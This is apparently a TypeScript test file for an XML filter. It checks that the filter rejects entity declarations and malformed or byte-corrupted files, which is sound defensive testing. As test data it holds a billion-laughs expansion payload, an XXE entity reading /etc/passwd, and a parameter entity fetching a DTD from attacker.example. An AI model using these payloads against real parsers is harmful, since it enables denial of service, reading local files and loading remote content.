import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { FilterError } from '../../types.js';
import { xmlFilter } from './xmlFilter.js';

const encode = (value: string): Uint8Array => new TextEncoder().encode(value);

const billionLaughs = [
  '<?xml version="1.0"?>',
  '<!DOCTYPE lolz [',
  '<!ENTITY lol "lol">',
  ...Array.from(
    { length: 9 },
    (_, index) => `<!ENTITY lol${index + 1} "${`&lol${index || ''};`.repeat(10)}">`,
  ),
  ']>',
  '<lolz>&lol9;</lolz>',
].join('\n');

describe('xml filter, hostile and broken files', () => {
  it('refuses entity declarations: billion laughs and XXE', async () => {
    await expect(async () => xmlFilter.parse(encode(billionLaughs), {})).rejects.toThrow(
      /declares entities/,
    );
    const xxe =
      '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<foo>&xxe;</foo>';
    for (const rulesFormat of ['PLAIN', 'XPATH'] as const) {
      await expect(async () =>
        xmlFilter.parse(encode(xxe), { xmlRulesFormat: rulesFormat }),
      ).rejects.toThrow(FilterError);
    }
    const parameter =
      '<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><foo/>';
    await expect(async () => xmlFilter.parse(encode(parameter), {})).rejects.toThrow(FilterError);
  });

  it('names the line of a well-formedness error', async () => {
    await expect(async () =>
      xmlFilter.parse(encode('<?xml version="1.0"?>\n<doc>\n  <p>open\n</doc>'), {}),
    ).rejects.toThrow(/not well-formed at line 4/);
    await expect(async () => xmlFilter.parse(encode(''), {})).rejects.toThrow(FilterError);
    await expect(async () =>
      xmlFilter.merge(encode('{"format":"html"}'), new Map(), {}),
    ).rejects.toThrow(FilterError);
  });

  it('ends in a FilterError when bytes are corrupted anywhere', { timeout: 30_000 }, async () => {
    const sample = encode(
      '<?xml version="1.0"?>\n<doc a="1"><p>Hi <b>there</b> &amp; <![CDATA[x]]><!--c--></p></doc>',
    );
    const settings = { xmlInlineTags: 'b', xmlIncludeAttributes: '*' };
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat(sample.length - 1), fc.integer({ min: 0, max: 255 })), {
          minLength: 1,
          maxLength: 6,
        }),
        async (changes) => {
          const bytes = sample.slice();
          for (const [at, value] of changes) bytes[at] = value;
          try {
            const parsed = await xmlFilter.parse(bytes, settings);
            const targets = new Map(parsed.units.map((unit) => [unit.id, `${unit.source}!`]));
            await xmlFilter.merge(parsed.skeleton, targets, settings);
          } catch (error) {
            expect(error).toBeInstanceOf(FilterError);
          }
        },
      ),
      { numRuns: 40 },
    );
  });
});
